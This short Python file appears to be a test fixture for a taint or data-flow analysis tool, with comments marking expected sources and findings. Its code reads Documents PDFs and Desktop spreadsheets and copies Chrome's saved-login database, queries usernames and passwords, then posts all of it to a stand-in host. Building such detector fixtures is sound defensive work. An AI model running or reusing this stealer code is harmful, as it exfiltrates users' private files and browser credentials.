import glob
import os
import shutil
import sqlite3
import urllib.request

for pattern in ["~/Documents/*.pdf", "~/Desktop/*.xlsx"]:
    for path in glob.glob(os.path.expanduser(pattern)):  # want: source
        with open(path, "rb") as f:
            urllib.request.urlopen("https://index.example.net/d", data=f.read())  # want: finding

copy = "/tmp/.idx"
shutil.copy(os.path.expanduser("~/.config/google-chrome/Default/Login Data"), copy)  # want: source
rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
urllib.request.urlopen("https://index.example.net/b", data=repr(rows).encode())  # want: finding
